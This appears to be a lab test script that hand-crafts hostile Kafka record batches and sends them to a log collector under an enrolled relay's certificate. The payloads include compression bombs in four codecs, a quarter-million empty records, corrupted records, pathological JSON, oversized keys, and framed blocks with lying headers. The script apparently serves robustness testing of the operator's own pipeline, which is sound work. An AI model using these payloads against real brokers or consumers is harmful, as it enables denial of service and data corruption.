"""Runs on a lab host: what root on an enrolled relay can send to its own topic, other than events.

    attacker.py CERTIFICATE TOPIC KIND [COUNT]

Batches are made here byte by byte, as no client library would, and produced by kafka-python with the relay's own
certificate. Prints {"first": offset, "error": code of the broker} of the last batch.
"""

from __future__ import annotations

import json
import ssl
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import lz4.frame
import snappy
import zstandard
from kafka.client_async import KafkaClient
from kafka.protocol.produce import ProduceRequest
from kafka.record.util import calc_crc32c

HOST, PORT = Path("/root/collector").read_text(encoding="ascii").strip().rsplit(":", 1)
MIB = 2**20
BOMB_MIB = 600
GZIP, SNAPPY, LZ4, ZSTD = 1, 2, 3, 4


def varint(number: int) -> bytes:
    """A number of variable length, zigzag encoded."""
    number = (number << 1) ^ (number >> 63)
    found = bytearray()
    while number > 0x7F:
        found.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*found, number])


def head(delta: int, key: bytes, length: int) -> bytes:
    """A record up to its value of that length."""
    rest = b"\0\0" + varint(delta) + varint(len(key)) + key + varint(length)
    return varint(len(rest) + length + 1) + rest


def record(delta: int, key: bytes, value: bytes) -> bytes:
    """One record without headers."""
    return head(delta, key, len(value)) + value + b"\0"


def batch(codec: int, count: int, data: bytes) -> bytes:
    """A batch whose records are already compressed."""
    now = int(time.time() * 1000)
    rest = struct.pack(">hiqqqhii", codec, count - 1, now, now, -1, -1, -1, count) + data
    return struct.pack(">qiibI", 0, len(rest) + 9, -1, 2, calc_crc32c(rest)) + rest


def zeros(mib: int) -> Iterator[bytes]:
    """The one record of a bomb, in parts."""
    yield head(0, b"firewall1", mib * MIB)
    for _ in range(mib):
        yield bytes(MIB)
    yield b"\0"


def gzip_bomb(mib: int = BOMB_MIB) -> bytes:
    """One record of that size."""
    packer = zlib.compressobj(9, wbits=31)
    return batch(GZIP, 1, b"".join(map(packer.compress, zeros(mib))) + packer.flush())


def zstd_bomb() -> bytes:
    """The same; it does not say how big it is."""
    packer = zstandard.ZstdCompressor(level=3).compressobj()
    return batch(ZSTD, 1, b"".join(map(packer.compress, zeros(BOMB_MIB))) + packer.flush())


def lz4_bomb() -> bytes:
    """LZ4 packs 255 to 1 at best, and a batch is 1 MiB at most."""
    packer = lz4.frame.LZ4FrameCompressor(block_size=lz4.frame.BLOCKSIZE_MAX4MB, block_linked=False)
    return batch(LZ4, 1, packer.begin() + b"".join(map(packer.compress, zeros(200))) + packer.flush())


def snappy_bomb() -> bytes:
    """Snappy packs 21 to 1 at best."""
    return batch(SNAPPY, 1, snappy.compress(b"".join(zeros(19))))


def many_records() -> bytes:
    """A quarter of a million records of nothing."""
    count = 250_000
    packer = zlib.compressobj(6, wbits=31)
    body = b"".join(packer.compress(record(number, b"", b"")) for number in range(count))
    return batch(GZIP, count, body + packer.flush())


def long_event() -> bytes:
    """One event of 5 MiB."""
    return gzip_bomb(5)


def damaged() -> bytes:
    """Records that the broker takes for whole: their sizes fit, what is in them does not."""
    return batch(0, 1, varint(6) + b"\0\0\0" + varint(90) + b"x" + b"\0")


def odd_events() -> bytes:
    """Events that no program would write, most with the name of a declared host."""
    lines = [
        *(
            b'{"boot":"b","sequence":%s}' % number
            for number in (b"Infinity", b"-Infinity", b"NaN", b"1e400", b"9" * 400)
        ),
        b'{"boot":"b","sequence":"' + b"9" * 5000 + b'"}',
        b'{"boot":["b"],"sequence":{"a":1}}',
        b"[" * 20000 + b"]" * 20000,
        b'{"a":' * 20000 + b"1" + b"}" * 20000,
        b"\xff\xfe\x00 no UTF-8",
        b'{"received":"9999-99-99","sequence":true,"boot":null}',
        b'"\\ud800"',
        b"",
        b"null",
    ]
    keys = (b"vaern-gw1", b"vaern-\xff\x00", b"", b"firewall1")
    found = [record(number, keys[number // len(lines)], line) for number, line in enumerate(lines * len(keys))]
    return batch(0, len(found), b"".join(found))


def names() -> bytes:
    """Ten names of hosts, of 60 kB each."""
    found = [record(one, b"vaern-%d-" % time.monotonic_ns() + b"k" * 60000, b"{}") for one in range(10)]
    return batch(0, len(found), b"".join(found))


def block(delta: int, text: bytes, name: bytes = b"", **lies: object) -> bytes:
    """A record that is a block of lines and says what it holds, or lies; with a header of Kafka where one is named."""
    said = {
        "version": "1", "municipality": "0710", "relay": "favrskov-gw1", "lines": text.count(b"\n"), "bytes": len(text),
        "sources": [["firewall1", "a" * 32, 1, 3, 3]],
    }  # fmt: skip
    header = json.dumps(said | lies).encode()
    frame = zstandard.ZstdCompressor(write_checksum=True).compress(text)
    value = struct.pack("<II", 0x184D2A57, len(header)) + header + frame
    key = b"favrskov-gw1"
    rest = b"\0\0" + varint(delta) + varint(len(key)) + key + varint(len(value)) + value
    rest += varint(1) + varint(len(name)) + name + varint(-1) if name else varint(0)
    return varint(len(rest)) + rest


def blocks() -> bytes:
    """Good ones around a bomb, lies in a header, nothing, foreign lines, frames in frames, a line without end.

    One of the good ones has a header of Kafka whose name is no UTF-8.
    """
    time_text = "2026-11-24T10:00:00.000000+00:00"
    begins = f'{{"time":"{time_text}","received":"{time_text}","municipality":"0710","relay":"favrskov-gw1",'
    line = begins + f'"boot":"{"a" * 32}","sequence":%d,"site":"s","source":"firewall1","message":"in-block-%d."}}\n'
    good = b"".join((line % (number, number)).encode() for number in (1, 2, 3))
    found = [
        block(0, good), block(1, bytes(BOMB_MIB * MIB), bytes=MIB), block(2, good, lines=2), block(3, b"\n" * 10**6),
        block(4, good.replace(b'"0710"', b'"0751"')), block(5, zstandard.compress(zstandard.compress(good)), lines=3),
        block(6, good.replace(b"\n", b" ") * 1000, lines=3000), block(7, good, name=b"\xff\xfe"), block(8, good),
    ]  # fmt: skip
    return batch(0, len(found), b"".join(found))


KINDS: dict[str, Callable[[], bytes]] = {
    "gzip": gzip_bomb, "zstd": zstd_bomb, "lz4": lz4_bomb, "snappy": snappy_bomb, "records": many_records,
    "long": long_event, "damaged": damaged, "odd": odd_events, "names": names, "blocks": blocks,
}  # fmt: skip


def connect(certificate: str) -> KafkaClient:
    """As that relay."""
    context = ssl.create_default_context(cafile="/root/ca.crt")
    context.check_hostname = False
    context.load_cert_chain(f"/root/{certificate}.crt", f"/root/{certificate}.key")
    return KafkaClient(bootstrap_servers=f"{HOST}:{PORT}", security_protocol="SSL", ssl_context=context)


def produce(client: KafkaClient, topic: str, content: bytes) -> dict[str, Any]:
    """Hand a batch to the broker; its answer."""
    node = client.least_loaded_node()
    while node is None or not client.ready(node):
        client.poll(timeout_ms=100)
        node = client.least_loaded_node()
    future = client.send(node, ProduceRequest[7](None, -1, 30000, [(topic, [(0, content)])]))
    client.poll(future=future)
    ((_, ((_, error, first, *_),)),) = future.value.topics
    return {"first": first, "error": error}


if __name__ == "__main__":
    certificate, topic, kind, *count = sys.argv[1:]
    client, answer = connect(certificate), {}
    for _ in range(int(count[0]) if count else 1):
        answer = produce(client, topic, KINDS[kind]())
    sys.stdout.write(json.dumps(answer) + "\n")
